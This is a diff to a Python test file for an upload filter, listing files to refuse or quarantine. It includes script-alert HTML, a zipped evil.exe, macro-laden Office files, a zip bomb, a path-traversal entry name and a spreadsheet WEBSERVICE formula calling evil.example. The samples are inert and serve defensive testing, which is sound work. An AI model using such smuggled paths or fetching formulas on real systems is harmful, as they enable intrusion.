@@ -15,6 +15,7 @@ HTML = b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"
 _COMPOUND = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
 _ARCHIVE = zipped({"evil.exe": EXE})
 _MACRO = "application/vnd.ms-word.document.macroEnabled.main+xml"
+_MACRO_TEMPLATE = "application/vnd.ms-word.template.macroEnabledTemplate.main+xml"
 _OLE = '<w:object><o:OLEObject r:id="rId9"/></w:object>'
 
 
@@ -81,17 +82,33 @@ REFUSED: dict[str, tuple[str, bytes, str]] = {
         picture_files.saved(picture_files.painted(), "JPEG", comment=b"<script>alert(1)</script>"),
         said.DISGUISED,
     ),
-    "a document with macros": (
+    "a document of macros under its own name": ("a.docm", office_files.docx(main=_MACRO), said.WRONG_TYPE),
+    "a template of macros renamed": ("a.docx", office_files.docx(main=_MACRO_TEMPLATE), said.UNLIKE),
+    "a document with macros and an OLE object": (
         "a.docx",
-        office_files.docx(word__vbaProject="", **{"word__vbaProject.bin": b"x"}),
-        said.MACROS,
+        office_files.docx(_OLE, **{"word__vbaProject.bin": b"x"}),
+        said.ACTIVE,
     ),
-    "a macro document renamed": ("a.docx", office_files.docx(main=_MACRO), said.MACROS),
-    "a macro table renamed": ("a.xlsx", office_files.sheet(**{"xl__vbaProject.bin": b"x"}), said.MACROS),
-    "a table with a macro sheet": (
+    "a document with macros and a program": (
+        "a.docx",
+        office_files.docx(**{"word__vbaProject.bin": b"x", "word__evil.exe": EXE}),
+        said.EMBEDDED,
+    ),
+    "a document with macros that is none": ("a.docx", zipped({"word/vbaProject.bin": b"x"}), said.UNLIKE),
+    "a document with macros that unpacks to nothing": (
+        "a.docx",
+        office_files.docx(**{"word__vbaProject.bin": bytes(30 * 1024 * 1024)}),
+        said.BOMB,
+    ),
+    "a document with macros and a path out of it": (
+        "a.docx",
+        office_files.docx(**{"..__vbaProject.bin": b"x"}),
+        said.TRICKS,
+    ),
+    "a table with macros that fetches": (
         "a.xlsx",
-        office_files.sheet(**{"xl__macrosheets__sheet1.xml": "<a/>"}),
-        said.MACROS,
+        office_files.sheet('=WEBSERVICE("https://evil.example/")', **{"xl__vbaProject.bin": b"x"}),
+        said.ACTIVE,
     ),
     "an old document renamed": ("a.docx", _COMPOUND + "WordDocument".encode("utf-16le"), said.WRONG_TYPE),
     "an old macro document renamed": ("a.docx", _COMPOUND + "_VBA_PROJECT".encode("utf-16le"), said.MACROS),
@@ -173,3 +190,21 @@ REFUSED: dict[str, tuple[str, bytes, str]] = {
     "eleven megabytes": ("a.txt", b"a" * (11 * 1024 * 1024), said.TOO_LARGE),
     "a film of 51 megabytes": ("a.mp4", bytes(51 * 1024 * 1024), said.TOO_LARGE),
 }
+
+_BUTTON = '<customUI xmlns="http://schemas.microsoft.com/office/2006/01/customui" onLoad="run"/>'
+APART: dict[str, tuple[str, bytes]] = {
+    "a document with macros": ("a.docx", office_files.docx(**{"word__vbaProject.bin": b"x"})),
+    "a macro document renamed": ("a.docx", office_files.docx(main=_MACRO, **{"word__vbaProject.bin": b"x"})),
+    "a macro document that lost its macros": ("a.docx", office_files.docx(main=_MACRO)),
+    "a macro table renamed": ("a.xlsx", office_files.sheet(**{"xl__vbaProject.bin": b"x"})),
+    "a table with a macro sheet": ("a.xlsx", office_files.sheet(**{"xl__macrosheets__sheet1.xml": "<a/>"})),
+    "a table with a window that starts a macro": (
+        "a.xlsx",
+        office_files.sheet(**{"xl__dialogsheets__sheet1.xml": "<a/>"}),
+    ),
+    "a document with a button that starts a macro": (
+        "a.docx",
+        office_files.docx(**{"customUI__customUI.xml": _BUTTON}),
+    ),
+}
+"""Files with macros that are good in every other way: kept as they came, in quarantine, and given to nobody."""
